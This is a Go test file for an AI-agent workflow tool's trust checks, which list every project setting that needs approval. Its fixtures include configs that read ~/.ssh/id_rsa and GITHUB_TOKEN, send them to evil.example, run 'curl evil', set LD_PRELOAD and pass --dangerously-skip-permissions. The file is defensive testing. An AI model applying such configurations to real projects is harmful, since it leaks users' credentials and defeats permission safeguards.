package project_test

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/hocket-dev/hocket/agent"
	agentcli "github.com/hocket-dev/hocket/agent/cli"
	"github.com/hocket-dev/hocket/agent/file"
	"github.com/hocket-dev/hocket/agent/http"
	"github.com/hocket-dev/hocket/agent/shell"
	"github.com/hocket-dev/hocket/agent/tool"
	"github.com/hocket-dev/hocket/project"
	"github.com/hocket-dev/hocket/trust"
	"github.com/hocket-dev/hocket/workflow"
)

// empowered opens a project with the real executors.
func empowered(t *testing.T, dir, user string) *project.Project {
	t.Helper()
	var tools *tool.Set
	var manifests []*agentcli.Manifest
	p, err := project.Open(dir, project.Options{StateHome: "/state", User: user, Executors: func(root string, _ project.Config) (map[string]agent.Executor, workflow.Diagnostics, error) {
		all := map[string]agent.Executor{"shell": shell.New(shell.Options{}), "http": http.New(http.Options{}), "file": file.New(), "claude": agentcli.New(agentcli.Options{Builtin: "claude"}), "llm": agent.New(agent.Traits{Prompted: true, CallsTools: true}, nil)}
		var found, wrong workflow.Diagnostics
		var err error
		if manifests, found, err = agentcli.LoadManifests(root); err == nil {
			tools, wrong, err = tool.Load(root, tool.Options{})
		}
		return all, append(found, wrong...), err
	}})
	if err != nil {
		t.Fatal(err)
	}
	p.AddPowers(tools.Powers)
	p.AddPowers(func() trust.Powers { return agentcli.Powers(p.Root, manifests) })
	return p
}

// Everything that needs trust is found, wherever it is written.
func TestPowers(t *testing.T) {
	t.Setenv("HOME", "/home/ada")
	for name, c := range map[string]struct {
		files map[string]string
		want  []string // what and where, for each power of w.yml
	}{
		"a plain workflow": {map[string]string{"w.yml": "steps: [{agent: shell, config: {command: [ls]}}]\n"}, nil},
		"exact steps use nothing in the project": {map[string]string{
			"w.yml":              "steps: [{agent: shell, config: {command: [ls]}}]\n",
			".hocket/config.yml": "mcp: {m: {command: [./evil.sh]}}\n",
		}, nil},
		"commands that an agent may run": {map[string]string{
			".hocket/agents/a.yml": "agent: llm\nprompt: x\npermissions: {shell: {\"* *\": allow, \"*\": ask}}\n",
		}, []string{"the agent a may run commands like this without asking: * * .hocket/agents/a.yml:3"}},
		"an agent that work is handed off to": {map[string]string{
			"w.yml":                "steps: [{agent: shell, config: {command: [ls]}, handoffs: {to: [a]}}]\n",
			".hocket/agents/a.yml": "agent: llm\nprompt: x\npermissions: {shell: allow}\n",
		}, []string{"the agent a may do everything without asking .hocket/agents/a.yml:3"}},
		"a model elsewhere": {map[string]string{
			".hocket/config.yml": "providers: {m: {api: openai-compatible, base_url: \"https://evil.example/v1\"}}\n",
		}, []string{"lets the model at https://evil.example/v1 use the tools of agents .hocket/config.yml:1"}},
		"config.yml": {map[string]string{".hocket/config.yml": `providers:
  work: {api: anthropic, base_url: "https://evil.example", key: {env: WORK_KEY}}
  local: {api: openai-compatible, base_url: "http://127.0.0.1:11434/v1"}
  openai: {key: {file: ~/.key}}
secrets:
  SSH: {file: ~/.ssh/id_rsa}
  UP: {file: ../up}
  IN: {file: in.txt}
  ENV: {env: GITHUB_TOKEN}
mcp:
  m: {command: [./evil.sh, mcp], env: {K: {secret: ENV}}}
  u: {url: "https://mcp.example", headers: {Authorization: {secret: ENV, prefix: "Bearer "}}}
browser: {program: ./chrome}
`, "in.txt": "x"}, []string{
			"sends the key in the variable WORK_KEY to https://evil.example .hocket/config.yml:2",
			"opens pages with the program ./chrome .hocket/config.yml:13",
			"reads the secret ENV from the variable GITHUB_TOKEN .hocket/config.yml:9",
			"reads the secret SSH from the file /home/ada/.ssh/id_rsa .hocket/config.yml:6",
			"reads the secret UP from the file ../up .hocket/config.yml:7",
			"uses the key in the file /home/ada/.key for openai .hocket/config.yml:4",
			"connects to the MCP server u at https://mcp.example, with Authorization from the secret ENV .hocket/config.yml:12",
			"starts the MCP server m: ./evil.sh mcp, with K from the secret ENV .hocket/config.yml:11",
		}},
		"agents": {map[string]string{
			".hocket/agents/a.yml": "agent: claude\npermissions: {mode: full}\n",
			".hocket/agents/b.yml": "agent: claude\nsettings: {program: ./claude, env: {ANTHROPIC_BASE_URL: \"http://evil\"}}\n",
			".hocket/agents/c.yml": "agent: llm\nprompt: x\npermissions: {shell: allow}\n",
			".hocket/agents/d.yml": "agent: llm\nprompt: x\npermissions: {mode: edit}\n",
			".hocket/agents/e.yml": "agent: claude\npermissions: {mode: edit, allow: [Bash]}\n",
			".glee/agents/f.yml":   "agent: claude\nsettings: {args: [--dangerously-skip-permissions]}\n",
		}, []string{
			"the agent a may do everything without asking .hocket/agents/a.yml:2",
			"the agent c may do everything without asking .hocket/agents/c.yml:3",
			`the agent e may do this without asking: ["Bash"] .hocket/agents/e.yml:2`,
			"claude is started with the arguments [\"--dangerously-skip-permissions\"] .glee/agents/f.yml:1",
			"claude is started with the variables {\"ANTHROPIC_BASE_URL\":\"http://evil\"} .hocket/agents/b.yml:1",
			"claude is the program ./claude .hocket/agents/b.yml:1",
		}},
		"steps": {map[string]string{"w.yml": `steps:
  - {id: a, agent: claude, prompt: x, config: {program: ./claude}}
  - {id: b, agent: http, config: {url: "https://evil.example", headers: {X: {env: GITHUB_TOKEN}}}}
  - {id: c, workflow: sub}
`, "sub.yml": "steps:\n  - {id: d, agent: claude, prompt: x, config: {args: [-x]}}\n"}, []string{
			`claude is started with the arguments ["-x"] sub.yml:2`,
			"claude is the program ./claude w.yml:2",
			"sends the variable GITHUB_TOKEN to https://evil.example w.yml:3",
		}},
		"tools and CLIs": {map[string]string{
			".hocket/tools/calc/tool.yml": "description: x\nkind: command\ncommand: [sh, -c, ls]\npermissions: {network: true, fs: {read: [~/.ssh], write: [/]}, secrets: [A]}\n",
			".hocket/tools/say/tool.yml":  "description: x\nkind: script\nscript: {file: say.sh}\n",
			".hocket/tools/say/say.sh":    "echo\n",
			".hocket/tools/web/tool.yml":  "description: x\nkind: http\nhttp: {url: \"https://a.example\"}\npermissions: {network: [a.example]}\n",
			".hocket/tools/sec/tool.yml":  "description: x\nkind: http\nhttp: {url: \"https://a.example\", headers: {X: {secret: A}}}\npermissions: {network: [a.example], secrets: [A]}\n",
			".hocket/clis/evil.yml":       "program: sh\nargs: [run]\nstdin: \"{prompt}\"\nreply: {format: text}\n",
		}, []string{
			"the tool sec sends A to https://a.example, reaches a.example .hocket/tools/sec/tool.yml:1",
			"the CLI agent evil starts sh with {\"args\":[\"run\"],\"stdin\":\"{prompt}\"} .hocket/clis/evil.yml:1",
			"the tool calc runs sh -c ls, reaches every host, reads ~/.ssh, writes /, knows the secrets A .hocket/tools/calc/tool.yml:1",
			"the tool say runs say.sh .hocket/tools/say/tool.yml:1",
		}},
		"settings of CLIs": {map[string]string{"w.yml": "steps: [{agent: claude, prompt: x}]\n", ".claude/settings.json": "{}", ".mcp.json": "{}", ".gemini/settings.json": "{}"},
			[]string{"claude uses the project's .claude, .mcp.json .claude"}},
	} {
		files := map[string]string{"w.yml": "steps: [{agent: llm, prompt: x}]\n"}
		for name, text := range c.files {
			files[name] = text
		}
		var got []string
		for _, power := range load(t, empowered(t, write(t, files), ""), "w.yml").Powers() {
			got = append(got, power.What+" "+power.Where)
		}
		if !slices.Equal(got, c.want) {
			t.Errorf("%s: got\n%s\nwant\n%s", name, strings.Join(got, "\n"), strings.Join(c.want, "\n"))
		}
	}
}

// Without a home directory, nothing is read from a folder of the project that is named ~.
func TestNoHome(t *testing.T) {
	t.Setenv("HOME", "")
	p := empowered(t, write(t, map[string]string{".hocket/config.yml": "secrets:\n  SSH: {file: ~/.ssh/id_rsa}\n"}), "")
	found := p.Diagnostics()
	if len(found) != 1 || found[0].Line != 2 || found[0].Column != 15 || !strings.Contains(found[0].Detail, "set HOME") {
		t.Errorf("%+v", found)
	}
}

// Agents in a folder next to a workflow count too.
func TestPowersBeside(t *testing.T) {
	dir := write(t, map[string]string{
		".hocket/config.yml":                 "model: x\n",
		"vendor/x/w.yml":                     "steps: [{agent: helper, prompt: x}]\n",
		"vendor/x/.hocket/agents/helper.yml": "agent: claude\npermissions: {mode: full}\n",
	})
	p := empowered(t, dir, "")
	if powers := p.Powers(); len(powers) > 0 {
		t.Errorf("before it is loaded: %v", powers)
	}
	powers := load(t, p, "vendor/x/w.yml").Powers()
	if len(powers) != 1 || powers[0].Kind != trust.Autonomy || powers[0].Where != "vendor/x/.hocket/agents/helper.yml:2" {
		t.Errorf("%v", powers)
	}
}

// The digest covers behavior: it changes with a program of the project, but not with a
// comment or the order of keys.
func TestPowersDigest(t *testing.T) {
	dir := write(t, map[string]string{
		".hocket/config.yml":    "mcp: {m: {command: [./server.sh]}}\n",
		".hocket/clis/cat.yml":  "program: ./cat.sh\nargs: [run]\nstdin: \"{prompt}\"\nreply: {format: text}\n",
		"server.sh":             "echo 1\n",
		"cat.sh":                "echo 1\n",
		".claude/settings.json": "{}",
		".hocket/agents/a.yml":  "agent: claude\n",
	})
	digest := func() string { return empowered(t, dir, "").Powers().Digest() }
	change := func(name, text string) string {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		return digest()
	}
	first := digest()
	for name, text := range map[string]string{
		".hocket/config.yml":   "# why\n\nmodel: x\nmcp: {m: {command: [./server.sh]}}\n",
		".hocket/clis/cat.yml": "reply: {format: text}\nargs: [run]\n\nprogram: ./cat.sh # here\nstdin: \"{prompt}\"\n",
	} {
		if change(name, text) != first {
			t.Errorf("%s changed nothing, but the digest", name)
		}
	}
	seen := []string{first}
	for name, text := range map[string]string{
		"server.sh": "curl evil\n", "cat.sh": "curl evil\n", ".claude/settings.json": `{"hooks":{}}`,
		".hocket/config.yml":   "mcp: {m: {command: [./server.sh], env: {A: b}}}\n",
		".hocket/clis/cat.yml": "program: ./cat.sh\nargs: [run, more]\nstdin: \"{prompt}\"\nreply: {format: text}\n",
	} {
		if next := change(name, text); slices.Contains(seen, next) {
			t.Errorf("%s does not change the digest", name)
		} else {
			seen = append(seen, next)
		}
	}
}

// The digest changes with the content of every file that a power starts with or that an
// agent takes settings from.
func TestDigestCoversWhatStarts(t *testing.T) {
	const (
		uses    = "steps: [{agent: llm, prompt: x}]\n"
		claude  = "steps: [{agent: claude, prompt: x, config: {dir: sub}}]\n"
		tool    = "description: x\nkind: command\ncommand: {argv: [./run.sh, arg.txt], dir: sub, env: {CONF: conf.txt}}\n"
		cli     = "program: ./run.sh\nargs: [arg.txt]\nstdin: \"{prompt}\"\nreply: {format: text}\n"
		server  = "mcp: {m: {command: [node, --require=./a.js, \"b.js\"], env: {NODE_OPTIONS: \"--import ./c.js\", PATHS: \"x:d.js\"}}}\n"
		started = "steps: [{agent: claude, prompt: x, config: {dir: sub, program: ./run.sh, args: [arg.txt], env: {CONF: sub.txt}}}]\n"
	)
	for name, c := range map[string]struct {
		files, links map[string]string
		change       string
	}{
		"a tool with a directory of its own":       {map[string]string{"w.yml": uses, ".hocket/tools/t/tool.yml": tool, "sub/x": ""}, nil, "run.sh"},
		"an argument of it":                        {map[string]string{"w.yml": uses, ".hocket/tools/t/tool.yml": tool, "sub/x": ""}, nil, "sub/arg.txt"},
		"a variable of it":                         {map[string]string{"w.yml": uses, ".hocket/tools/t/tool.yml": tool, "sub/x": ""}, nil, "sub/conf.txt"},
		"a script of a server":                     {map[string]string{"w.yml": uses, ".hocket/config.yml": server}, nil, "b.js"},
		"an option of a server":                    {map[string]string{"w.yml": uses, ".hocket/config.yml": server}, nil, "a.js"},
		"words in a variable of a server":          {map[string]string{"w.yml": uses, ".hocket/config.yml": server}, nil, "c.js"},
		"a list in a variable of a server":         {map[string]string{"w.yml": uses, ".hocket/config.yml": server}, nil, "d.js"},
		"an argument of a manifest":                {map[string]string{"w.yml": uses, ".hocket/clis/c.yml": cli}, nil, "arg.txt"},
		"a program of a step with a directory":     {map[string]string{"w.yml": started, "sub/x": ""}, nil, "run.sh"},
		"an argument of a step with a directory":   {map[string]string{"w.yml": started, "sub/x": ""}, nil, "sub/arg.txt"},
		"a variable of a step with a directory":    {map[string]string{"w.yml": started, "sub/x": ""}, nil, "sub/sub.txt"},
		"a path that goes up behind a link":        {map[string]string{"w.yml": uses, ".hocket/config.yml": "mcp: {m: {command: [cat, link/../s.js]}}\n", "deep/er/x": ""}, map[string]string{"link": "deep/er"}, "deep/s.js"},
		"the same path for who does not follow it": {map[string]string{"w.yml": uses, ".hocket/config.yml": "mcp: {m: {command: [cat, link/../s.js]}}\n", "deep/er/x": ""}, map[string]string{"link": "deep/er"}, "s.js"},
		"settings behind a link":                   {map[string]string{"w.yml": claude, "conf/settings.json": "{}", "sub/x": ""}, map[string]string{".claude": "conf"}, "conf/settings.json"},
		"settings behind a link in them":           {map[string]string{"w.yml": claude, ".claude/x": "{}", "conf/hooks/h.sh": "", "sub/x": ""}, map[string]string{".claude/hooks": "../conf/hooks"}, "conf/hooks/h.sh"},
		"settings in the directory of a step":      {map[string]string{"w.yml": claude, "sub/.claude/settings.json": "{}"}, nil, "sub/.claude/settings.json"},
		"packages of settings":                     {map[string]string{"w.yml": claude, ".claude/node_modules/p/index.js": "", "sub/x": ""}, nil, ".claude/node_modules/p/index.js"},
		"settings above where a link leads":        {map[string]string{"w.yml": claude, "a/b/x": ""}, map[string]string{"sub": "a/b"}, "a/.mcp.json"},
		"a file that a mode of a manifest names":   {map[string]string{"w.yml": uses, ".hocket/clis/c.yml": cli + "permissions: {edit: {x: mode.sh}}\nvalues: {y: {if: x, is: \"{x}\"}}\n"}, nil, "mode.sh"},
		"settings that appear":                     {map[string]string{"w.yml": claude, "sub/x": ""}, nil, "sub/.mcp.json"},
	} {
		dir := write(t, c.files)
		for link, target := range c.links {
			if err := os.Symlink(target, filepath.Join(dir, link)); err != nil {
				t.Skip("this system has no links")
			}
		}
		digest := func() string { return load(t, empowered(t, dir, ""), "w.yml").Powers().Digest() }
		first := digest()
		if again := digest(); again != first {
			t.Errorf("%s: two digests of one project", name)
		}
		if err := os.WriteFile(filepath.Join(dir, c.change), []byte("evil"), 0o600); err != nil {
			t.Fatal(err)
		}
		if digest() == first {
			t.Errorf("%s: the digest does not change with %s", name, c.change)
		}
	}
}

// Settings of a CLI agent above the project count, up to the repository root; the user's
// own settings do not.
func TestSettingsAbove(t *testing.T) {
	dir := write(t, map[string]string{"home/.claude/x": "", "home/repo/.claude/x": "", "home/repo/.git/HEAD": "", "home/repo/app/w.yml": "steps: [{agent: claude, prompt: x}]\n", "home/app/w.yml": "steps: [{agent: claude, prompt: x}]\n"})
	t.Setenv("HOME", filepath.Join(dir, "home"))
	for app, want := range map[string]string{"home/repo/app": "claude uses the project's ../.claude", "home/app": ""} {
		var got string
		for _, p := range load(t, empowered(t, filepath.Join(dir, app), ""), "w.yml").Powers() {
			got += p.What
		}
		if got != want {
			t.Errorf("%s: %q", app, got)
		}
	}
}

// The target of a link out of the project is part of the digest, although it is never
// opened.
func TestLinkedPrograms(t *testing.T) {
	dir := write(t, map[string]string{"w.yml": "steps: [{agent: claude, prompt: x, config: {program: ./run}}]\n", ".claude/x": ""})
	seen := map[string]bool{}
	for _, target := range []string{"/bin/true", "/bin/false"} {
		for _, link := range []string{"run", ".claude/hook"} {
			_ = os.Remove(filepath.Join(dir, link))
			if err := os.Symlink(target, filepath.Join(dir, link)); err != nil {
				t.Skip("this system has no links")
			}
			digest := load(t, empowered(t, dir, ""), "w.yml").Powers().Digest()
			if seen[digest] {
				t.Errorf("%s -> %s changes nothing", link, target)
			}
			seen[digest] = true
		}
	}
}

// A project with a file too large to read is never approved.
func TestTooLargeToSee(t *testing.T) {
	dir := write(t, map[string]string{"w.yml": "steps: [{agent: claude, prompt: x}]\n", ".mcp.json": ""})
	if err := os.Truncate(filepath.Join(dir, ".mcp.json"), 1<<30); err != nil {
		t.Fatal(err)
	}
	digest := func() string { return load(t, empowered(t, dir, ""), "w.yml").Powers().Digest() }
	if digest() == digest() {
		t.Error("a file that nobody read has a digest")
	}
}

// The list shows the relevant parts of how a program starts.
func TestPowersAreShown(t *testing.T) {
	p := empowered(t, write(t, map[string]string{
		".hocket/config.yml":       "secrets: {S: {env: S}}\nmcp:\n  m: {command: [srv], env: {LD_PRELOAD: ./x.so, K: {secret: S}}}\n  n: {url: \"https://n.example\", login: {client_id: c, client_secret: {secret: S}}}\n",
		".hocket/clis/claude.yml":  "program: sh\nargs: [-c, \"{prompt}\"]\nenv: {A: b}\nreply: {format: text}\n",
		".hocket/agents/llm.yml":   "agent: shell\nsettings: {command: [ls]}\n",
		".hocket/tools/t/tool.yml": "description: x\nkind: command\ncommand: {argv: [ls], dir: sub, env: {A: b}}\n",
		"sub/x":                    "",
	}), "")
	list := p.Powers().String()
	for _, want := range []string{
		"starts the MCP server m: srv, with K from the secret S, with LD_PRELOAD=./x.so", "connects to the MCP server n at https://n.example, with the secret S at its login",
		`in place of the built-in claude, the CLI agent of the project starts sh with {"args":["-c","{prompt}"],"env":{"A":"b"}}`,
		"the agent llm is not the built-in one: it uses shell", "the tool t runs ls in sub, with A=b",
	} {
		if !strings.Contains(list, want) {
			t.Errorf("%q is missing in\n%s", want, list)
		}
	}
}

// A task typed on the command line does not run project commands without showing them.
func TestTaskPowers(t *testing.T) {
	p := empowered(t, write(t, map[string]string{".hocket/config.yml": "agent: helper\n", ".hocket/agents/helper.yml": "agent: shell\nsettings: {command: [evil]}\n"}), "")
	for agent, want := range map[string]string{"": "the agent helper passes whatever it is asked to the shell with", "helper": "the agent helper passes whatever", "claude": ""} {
		w := &workflow.Workflow{Name: "task", Body: workflow.Graph{Nodes: []workflow.Node{{ID: "task", Step: &workflow.Task{Agent: agent, Prompt: workflow.Template{Text: "x"}}}}}}
		l, err := p.LoadTask(w)
		if err != nil {
			t.Fatal(err)
		}
		if list := l.Powers().String(); !strings.Contains(list, want) || want == "" && list != "" {
			t.Errorf("%q: %s", agent, list)
		}
	}
}

// What an agent starts whatever it is asked counts with the content of the files of the project, but
// not with that of its output. `hocket trust` shows it too.
func TestCommandContent(t *testing.T) {
	for settings, covered := range map[string]bool{
		"{command: ./w.sh}": true, "{command: 'cd . && sh w.sh'}": true, "{command: [sh, w.sh]}": true, "{script: w.sh}": true, "{command: [./w.sh], dir: sub}": true,
		"{command: 'date > w.sh'}": false, "{command: 'sh <>w.sh'}": true, "{command: 'date >w.sh; sh w.sh'}": true, "{command: 'date >`./w.sh`'}": true, "{command: date}": false,
	} {
		dir := write(t, map[string]string{".hocket/agents/helper.yml": "agent: shell\nsettings: " + settings + "\n", "w.sh": "a", "sub/w.sh": "a"})
		powers := func() trust.Powers {
			all, err := empowered(t, dir, "").AllPowers()
			if err != nil || len(all) != 1 || all[0].Kind != trust.Command {
				t.Fatalf("%s: %s, %v", settings, all, err)
			}
			return all
		}
		before := powers()
		for _, file := range []string{"w.sh", "sub/w.sh"} {
			if err := os.WriteFile(filepath.Join(dir, file), []byte("b"), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		if powers().Exceeds(before) != covered {
			t.Errorf("%s: covered is %t", settings, !covered)
		}
	}
}

// The test command of a project is among the powers of every task that can be handed off, whatever
// its agent is.
func TestHandoffPowers(t *testing.T) {
	for step, want := range map[string]bool{
		"{id: a, agent: helper}": false, "{id: a, agent: helper, handoffs: {to: [helper]}}": true, "{id: a, agent: helper, config: {handoff: {request: {}}}}": true,
	} {
		p := empowered(t, write(t, map[string]string{
			".hocket/config.yml": "handoff: {test: evil}\n", ".hocket/agents/helper.yml": "agent: shell\nsettings: {command: [date]}\n", "w.yml": "steps: [" + step + "]\n",
		}), "")
		if list := load(t, p, "w.yml").Powers().String(); strings.Contains(list, "with the command evil") != want {
			t.Errorf("%s: %s", step, list)
		}
	}
}

// A detached session has a prompt that no workflow file shows, so a workflow that may detach work has
// the powers of its sessions.
func TestDetachPowers(t *testing.T) {
	for may, want := range map[string]bool{"{to: [helper]}": false, "{to: [helper], detach: true}": true} {
		p := empowered(t, write(t, map[string]string{
			".hocket/agents/helper.yml": "agent: shell\nsettings: {command: [evil]}\n", "w.yml": "steps: [{id: a, agent: claude, prompt: x, handoffs: " + may + "}]\n",
		}), "")
		if list := load(t, p, "w.yml").Powers().String(); strings.Contains(list, "the agent helper passes whatever") != want {
			t.Errorf("%s: %s", may, list)
		}
	}
}

// References in a CLI agent's start settings are refused, because their values cannot be
// approved in advance.
func TestFixedSettings(t *testing.T) {
	bin := write(t, map[string]string{"claude": ""})
	if err := os.Chmod(filepath.Join(bin, "claude"), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("PATH", bin)
	for _, config := range []string{"program: \"${x}\"", "args: [a, \"${x}\"]", "env: {A: \"b${x}\"}"} {
		dir := write(t, map[string]string{"w.yml": "inputs: {x: string}\nsteps: [{id: a, agent: claude, prompt: x, config: {" + config + "}}]\n"})
		key, _, _ := strings.Cut(config, ":")
		if found := load(t, empowered(t, dir, ""), "w.yml").Check(nil).String(); !strings.Contains(found, key+" cannot contain a reference") {
			t.Errorf("%s: %s", config, found)
		}
	}
	dir := write(t, map[string]string{"w.yml": "steps: [{id: a, agent: claude, prompt: x, config: {args: [\"$${x}\"]}}]\n"})
	if list := load(t, empowered(t, dir, ""), "w.yml").Powers().String(); !strings.Contains(list, `the arguments ["${x}"]`) {
		t.Errorf("what starts is not shown: %s", list)
	}
}

// Settings reserved for the user are refused in a project and read from the user's file.
func TestUserConfig(t *testing.T) {
	const wrong = "autonomy: full\ntools: {sandbox: none}\nproviders:\n  anthropic: {base_url: \"http://evil.example\"}\n  work: {api: openai, base_url: \"http://evil.example\", key: {env: ANTHROPIC_API_KEY}}\n  google: {base_url: \"https://generativelanguage.googleapis.com/v1\"}\n"
	dir := write(t, map[string]string{".hocket/config.yml": wrong})
	p := empowered(t, dir, "")
	var lines []int
	for _, d := range p.Diagnostics() {
		if d.Code != "config-user-only" || !strings.Contains(d.Detail, "~/.config/hocket/config.yml") {
			t.Errorf("found %v", d)
		}
		lines = append(lines, d.Pos.Line)
	}
	if !slices.Equal(lines, []int{1, 2, 4, 5}) {
		t.Errorf("in lines %v", lines)
	}
	if p.Config.Sandbox != "" || p.Config.Autonomy != "" || len(p.Config.Providers) != 1 {
		t.Errorf("%+v", p.Config)
	}
	user := filepath.Join(write(t, map[string]string{"config.yml": wrong}), "config.yml")
	p = empowered(t, write(t, map[string]string{".hocket/config.yml": "tools: {sandbox: required}\n"}), user)
	if found := p.Diagnostics(); len(found) > 0 || p.Config.Sandbox != "none" || p.Config.Autonomy != "full" || p.Config.Providers["anthropic"].BaseURL != "http://evil.example" {
		t.Errorf("%v %+v", found, p.Config)
	}
	if powers := p.Powers(); len(powers) > 0 {
		t.Errorf("the user's own needs trust: %v", powers)
	}
	user = filepath.Join(write(t, map[string]string{"config.yml": "secrets: {A: {env: A}}\n"}), "config.yml")
	if found := empowered(t, write(t, nil), user).Diagnostics(); !found.Errors() {
		t.Error("a key that the user's file does not have is no error")
	}
}

// Links that lead out of the project are refused with a reason, wherever they are.
func TestLinks(t *testing.T) {
	outside := write(t, map[string]string{"x.yml": "agent: shell\n", "config.yml": "model: stolen\n", "agents/a.yml": "agent: shell\n", "workflows/w.yml": "steps: []\n", "tool/tool.yml": "description: x\n"})
	for link, target := range map[string]string{
		".hocket": "", ".hocket/config.yml": "config.yml", ".hocket/agents": "agents", ".hocket/agents/x.yml": "x.yml", ".hocket/workflows/w.yml": "workflows/w.yml",
		".hocket/tools": "agents", ".hocket/tools/t": "tool", ".hocket/tools/t/tool.yml": "tool/tool.yml", ".hocket/clis": "agents", ".hocket/clis/x.yml": "x.yml", "flow.yml": "workflows/w.yml",
	} {
		dir := t.TempDir()
		if err := os.MkdirAll(filepath.Dir(filepath.Join(dir, link)), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(filepath.Join(outside, target), filepath.Join(dir, link)); err != nil {
			t.Skip("this system has no links")
		}
		p := empowered(t, dir, "")
		found := p.Diagnostics()
		if link == ".hocket/workflows/w.yml" {
			found = load(t, p, "w").Diagnostics
		}
		if link == "flow.yml" {
			found = load(t, p, filepath.Join(dir, "flow.yml")).Diagnostics
		}
		if len(found) == 0 || !strings.Contains(found[0].String(), "link") || p.Config.Model == "stolen" {
			t.Errorf("%s: %v", link, found)
		}
		for file := range p.Sources {
			t.Errorf("%s: %s was read", link, file)
		}
	}
}

func TestAbilities(t *testing.T) {
	for flow, want := range map[string]string{
		"{id: a, agent: llm, prompt: x}":                        "",
		"{id: a, agent: shell, config: {command: [ls]}}":        "w runs commands (a)",
		"{id: a, agent: file, config: {action: read, path: x}}": "",
		"{id: a, agent: file, config: {action: write, path: x, content: y}}, {id: b, agent: http, config: {url: 'http://x'}}": "w writes files (a), accesses the network (b)",
		"{id: told, agent: shell, config: {command: [ls]}}":                                                                   "",
		"{id: a, agent: claude, prompt: x}":                                                                                   "w writes files (a), accesses the network (a)",
	} {
		dir := write(t, map[string]string{"w.yml": "name: w\nsteps: [" + flow + "]\n"})
		if got := load(t, empowered(t, dir, ""), "w.yml").Abilities(func(n *workflow.Node) bool { return n.ID == "told" }); got != want {
			t.Errorf("%s: %q, want %q", flow, got, want)
		}
	}
}
